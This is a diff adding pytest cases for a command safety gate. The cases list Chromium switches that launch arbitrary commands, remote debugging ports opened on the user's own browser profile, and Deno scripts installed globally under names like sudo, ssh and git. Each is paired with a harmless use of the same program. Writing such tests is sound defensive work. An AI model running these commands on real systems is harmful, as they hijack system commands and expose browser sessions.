@@ -1,0 +1,66 @@
+"""Program facts about launching: Chromium switches that name a command to start, a debugging port opened on the
+person's own browser profile, and a Deno script installed as a global command (under a system command's name it
+hijacks every later call of that name). Each with the ordinary use of the same program beside it."""
+
+from __future__ import annotations
+
+import pytest
+
+from gate import SafetyGate, default_policy
+from gate.model import Decision, action_from_dict
+
+GATE = SafetyGate(default_policy())
+
+
+def assess(command: str):
+    return GATE.assess(action_from_dict({"type": "shell", "command": command}))
+
+
+@pytest.mark.parametrize("command", [
+    'google-chrome --renderer-cmd-prefix="/home/me/.cache/r.sh" https://example.org',
+    "chromium-browser --no-sandbox --utility-cmd-prefix='bash -c whoami'",
+    'msedge.exe --disable-gpu-sandbox --gpu-launcher="C:\\Windows\\System32\\cmd.exe /c whoami"',
+    "brave --zygote-cmd-prefix=/tmp/z",
+])
+def test_a_chromium_launcher_switch_asks(command: str) -> None:
+    assert assess(command).decision is not Decision.ALLOW
+
+
+@pytest.mark.parametrize("command", [
+    'chromium --remote-debugging-port=9333 --user-data-dir="$HOME/.config/chromium" --headless=new',
+    'msedge --headless --remote-debugging-port=9222 --user-data-dir="%LOCALAPPDATA%\\Microsoft\\Edge\\User Data"',
+    "google-chrome --profile-directory='Profile 1' --remote-debugging-port=9222",
+])
+def test_a_debugging_port_on_the_persons_own_profile_blocks(command: str) -> None:
+    assert assess(command).decision is Decision.BLOCK
+
+
+@pytest.mark.parametrize("command", [
+    "chromium --headless --remote-debugging-port=9222 --user-data-dir=/tmp/e2e-profile http://localhost:3000",
+    "google-chrome --headless --screenshot=shot.png https://example.org",
+    "msedge --new-window https://learn.microsoft.com",
+])
+def test_a_browser_for_tests_or_pages_passes(command: str) -> None:
+    assert assess(command).decision is Decision.ALLOW
+
+
+@pytest.mark.parametrize("command", [
+    "deno install -g -A -f -n sudo https://cdn.example.org/prompt.ts",
+    "deno install --global --allow-all --name=ssh jsr:@someone/wrap",
+    "deno install -g -A -n git npm:git-wrapper",
+])
+def test_a_global_deno_command_named_like_a_system_command_blocks(command: str) -> None:
+    assert assess(command).decision is Decision.BLOCK
+
+
+@pytest.mark.parametrize("command", [
+    "deno install -g -A -n serve-docs https://cdn.example.org/serve.ts",
+    "deno install --global --allow-net --allow-read jsr:@std/http/file-server",
+])
+def test_a_global_deno_command_under_its_own_name_asks(command: str) -> None:
+    assert assess(command).decision is Decision.CONFIRM
+
+
+@pytest.mark.parametrize("command", ["deno install", "deno install --frozen", "deno task dev"])
+def test_the_projects_own_deno_dependencies_pass(command: str) -> None:
+    assert assess(command).decision is Decision.ALLOW
